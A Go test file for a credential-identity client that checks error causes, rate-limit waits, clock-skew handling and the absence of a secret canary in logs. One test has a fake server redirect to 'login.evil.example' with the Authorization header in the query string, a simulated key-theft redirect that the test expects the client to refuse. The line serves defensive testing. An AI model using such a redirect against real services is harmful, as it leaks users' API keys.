package remote

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"app.patchbay/internal/outbound"
	"app.patchbay/internal/patchbay"
)

const canary = "pretend-token-canary-7431"

// pretend is a service on 127.0.0.1 and a Pack for it.
type pretend struct {
	base   string
	pack   patchbay.Pack
	signIn patchbay.SignIn
	// log is what was logged while it was asked.
	log bytes.Buffer
}

func newPretend(t *testing.T, handler http.HandlerFunc) *pretend {
	t.Helper()
	s := httptest.NewServer(handler)
	t.Cleanup(s.Close)
	return &pretend{
		base: s.URL + "/v1",
		pack: patchbay.Pack{
			ID: "pretend", Name: "Pretend Service", Domains: []string{"pretend.example"},
			WhoAmI: &patchbay.WhoAmI{Method: "GET", Path: "/whoami", ID: "user.id", Name: "user.name", Scoped: "scoped", Probe: "/docs?limit=1"},
		},
		signIn: patchbay.SignIn{
			Way: patchbay.Bearer, Fields: []patchbay.Field{{ID: "token", Label: "API Key", Secret: true}},
		},
	}
}

// ask asks whose the canary is, and searches errors and log for it.
func (p *pretend) ask(t *testing.T) (patchbay.Identity, error) {
	t.Helper()
	return p.askWith(t, patchbay.Credential{"token": patchbay.NewSecret(canary)})
}

func (p *pretend) askWith(t *testing.T, credential patchbay.Credential) (patchbay.Identity, error) {
	t.Helper()
	address, err := outbound.TrialAddress(p.base)
	if err != nil {
		t.Fatal(err)
	}
	var service patchbay.Service = New(outbound.New(outbound.Options{
		Trial: []string{address}, Timeout: 500 * time.Millisecond, Log: slog.New(slog.NewTextHandler(&p.log, nil)),
	}))
	identity, err := service.WhoAmI(t.Context(), p.pack, p.signIn, p.base, credential)
	_, values := patchbay.Why(err)
	for _, text := range []string{fmt.Sprintf("%v %+v %#v %v", err, err, err, values), fmt.Sprintf("%+v", identity), p.log.String()} {
		if strings.Contains(text, canary) {
			t.Errorf("the secret is in: %s", text)
		}
	}
	if err != nil && identity != (patchbay.Identity{}) {
		t.Errorf("an identity came with the failure: %+v", identity)
	}
	return identity, err
}

// wantFailure checks the cause, the values that every failure has, and one more.
func wantFailure(t *testing.T, err error, cause patchbay.Cause, name, value string) {
	t.Helper()
	got, values := patchbay.Why(err)
	if got != cause {
		t.Errorf("got %v (%v), want %v", got, err, cause)
	}
	if values["service"] != "Pretend Service" || values["host"] != "127.0.0.1" {
		t.Errorf("the service or the host is missing: %v", values)
	}
	if got, ok := values[name]; name != "" && (got != value || !ok) {
		t.Errorf("value %q is %q, want %q", name, got, value)
	}
}

// saying answers everything with status and body.
func saying(status int, body string) http.HandlerFunc {
	return func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(status)
		_, _ = io.WriteString(w, body)
	}
}

func TestEachStatusHasItsCause(t *testing.T) {
	tests := []struct {
		status      int
		cause       patchbay.Cause
		name, value string
	}{
		{401, patchbay.KeyRefused, "", ""},
		{403, patchbay.KeyLimited, "", ""},
		{408, patchbay.RateLimited, "", ""},
		{429, patchbay.RateLimited, "", ""},
		{400, patchbay.ServiceSaidNo, "status", "400"},
		{404, patchbay.ServiceSaidNo, "status", "404"},
		{500, patchbay.ServiceDown, "status", "500"},
		{503, patchbay.ServiceDown, "status", "503"},
		{300, patchbay.Redirected, "", ""},
		{304, patchbay.Redirected, "", ""},
		{302, patchbay.Redirected, "", ""},
		{204, patchbay.AnswerUnexpected, "", ""},
	}
	for _, tt := range tests {
		t.Run(http.StatusText(tt.status), func(t *testing.T) {
			body := `{"error":"` + canary + `"}`
			if tt.status == 204 || tt.status == 304 {
				body = ""
			}
			_, err := newPretend(t, saying(tt.status, body)).ask(t)
			wantFailure(t, err, tt.cause, tt.name, tt.value)
		})
	}
}

func TestTheWaitThatAServiceAsksForIsPassedOn(t *testing.T) {
	for said, want := range map[string]string{"30": "30", "": "", "soon": "", "999999": "", "0": ""} {
		p := newPretend(t, func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Retry-After", said)
			w.WriteHeader(429)
		})
		_, err := p.ask(t)
		_, values := patchbay.Why(err)
		if got, ok := values["seconds"]; got != want || ok != (want != "") {
			t.Errorf("Retry-After %q: seconds %q", said, got)
		}
	}
}

func TestAWrongClockIsBlamedBeforeTheKey(t *testing.T) {
	tests := []struct {
		ahead   time.Duration // of the service's clock
		status  int
		cause   patchbay.Cause
		minutes string
	}{
		{20 * time.Minute, 401, patchbay.ClockWrong, "-20"},
		{-90 * time.Minute, 403, patchbay.ClockWrong, "90"},
		{4 * time.Minute, 401, patchbay.KeyRefused, ""},
		{-4 * time.Minute, 403, patchbay.KeyLimited, ""},
		{20 * time.Minute, 500, patchbay.ServiceDown, ""},
		{20 * time.Minute, 200, "", ""},
	}
	for _, tt := range tests {
		p := newPretend(t, func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Date", time.Now().Add(tt.ahead).UTC().Format(http.TimeFormat))
			w.WriteHeader(tt.status)
			_, _ = io.WriteString(w, `{"user":{"id":"u1"}}`)
		})
		_, err := p.ask(t)
		if cause, values := patchbay.Why(err); cause != tt.cause || !near(values["minutes"], tt.minutes) {
			t.Errorf("%v ahead, status %d: %v %v", tt.ahead, tt.status, cause, values)
		}
	}
}

// near allows for the second that may pass between two looks at the clock.
func near(got, want string) bool {
	return got == want || want == "-20" && got == "-19" || want == "90" && got == "89"
}

func TestFailuresOfTheWayNameTheService(t *testing.T) {
	p := newPretend(t, saying(200, "{}"))
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	p.base = "http://" + l.Addr().String()
	_ = l.Close()
	_, err = p.ask(t)
	wantFailure(t, err, patchbay.ConnectionRefused, "", "")

	hangs := newPretend(t, func(_ http.ResponseWriter, r *http.Request) { <-r.Context().Done() })
	_, err = hangs.ask(t)
	wantFailure(t, err, patchbay.TooSlow, "", "")

	away := newPretend(t, func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "https://login.evil.example/?key="+r.Header.Get("Authorization"), http.StatusFound)
	})
	_, err = away.ask(t)
	if cause, values := patchbay.Why(err); cause != patchbay.Redirected || values["host"] != "login.evil.example" || values["service"] == "" {
		t.Errorf("redirected: %v %v", cause, values)
	}

	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	if _, err := New(outbound.New(outbound.Options{})).WhoAmI(ctx, p.pack, p.signIn, "https://pretend.example",
		patchbay.Credential{"token": patchbay.NewSecret(canary)}); !errors.Is(err, context.Canceled) {
		t.Errorf("cancelled: %v", err)
	}
}

func TestAnAddressOutsideThePackIsRefused(t *testing.T) {
	p := newPretend(t, saying(200, "{}"))
	_, err := New(outbound.New(outbound.Options{})).WhoAmI(t.Context(), p.pack, p.signIn, "https://evil.example",
		patchbay.Credential{"token": patchbay.NewSecret(canary)})
	if cause, values := patchbay.Why(err); cause != patchbay.AddressInvalid || values["domain"] != "pretend.example" || values["service"] == "" {
		t.Errorf("got %v %v", cause, values)
	}
}

func TestAProbeTellsWhetherALimitedKeyIsEnough(t *testing.T) {
	tests := []struct {
		scoped  bool
		probe   int
		limited bool
		cause   patchbay.Cause
	}{
		{true, 200, false, ""},
		{true, 401, true, ""},
		{true, 403, true, ""},
		{true, 404, true, ""},
		{true, 429, false, patchbay.RateLimited},
		{true, 500, false, patchbay.ServiceDown},
		{true, 400, false, patchbay.ServiceSaidNo},
		{false, 500, false, ""},
	}
	for _, tt := range tests {
		probed := false
		p := newPretend(t, func(w http.ResponseWriter, r *http.Request) {
			if r.Header.Get("Authorization") != "Bearer "+canary || r.Header.Get("X-Version") != "7" {
				t.Errorf("%s: the key or a header is missing", r.URL)
			}
			if r.URL.Path == "/v1/docs" {
				probed = true
				if r.Method != "GET" || r.URL.RawQuery != "limit=1" || r.ContentLength > 0 {
					t.Errorf("the probe is %s %s", r.Method, r.URL)
				}
				w.WriteHeader(tt.probe)
				return
			}
			_, _ = fmt.Fprintf(w, `{"user":{"id":"u1","name":"Jane"},"scoped":%t}`, tt.scoped)
		})
		p.pack.WhoAmI.Method, p.pack.WhoAmI.Body = "POST", `{"query":"me"}`
		p.pack.WhoAmI.Headers = []patchbay.Placed{{Name: "X-Version", Value: "7"}}
		identity, err := p.ask(t)
		if tt.cause != "" {
			wantFailure(t, err, tt.cause, "", "")
		} else if err != nil || identity.Limited != tt.limited || identity.Scoped != tt.scoped {
			t.Errorf("%+v: %+v, %v", tt, identity, err)
		}
		if probed != tt.scoped {
			t.Errorf("%+v: probed is %v", tt, probed)
		}
	}
}
